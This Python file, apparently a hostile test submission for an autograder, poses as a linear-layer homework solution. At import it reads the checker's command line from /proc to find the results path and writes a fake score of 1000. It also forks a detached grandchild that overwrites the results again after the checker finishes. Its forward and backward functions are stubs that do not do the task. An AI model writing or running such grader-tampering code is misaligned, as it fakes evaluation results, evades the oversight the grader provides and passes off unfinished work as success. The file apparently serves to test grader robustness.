"""Hostile: tries to write a perfect score into the checker's results file.

It finds the path in the checker's command line (/proc/<parent>/cmdline), writes there at once and
also from a detached grandchild that waits until after the checker has written its own file.
"""

import json
import os
import time

FAKE = json.dumps({"score": 1000.0, "output": "hacked", "tests": []})


def _results_paths():
    paths = ["results.json", "../results.json", "/autograder/results/results.json"]
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            argv = f.read().decode().split("\0")
        if "--json" in argv:
            paths.append(argv[argv.index("--json") + 1])
    except OSError:
        pass
    return paths


def _write_all(paths):
    for path in paths:
        try:
            with open(path, "w") as f:
                f.write(FAKE)
        except OSError:
            pass


PATHS = _results_paths()
_write_all(PATHS)
if os.fork() == 0:  # a detached grandchild, in its own session, that writes again later
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.5)
        _write_all(PATHS)
    os._exit(0)


def linear_forward(x, w, b):
    return x @ w


def linear_backward(dout, x, w, b):
    return None
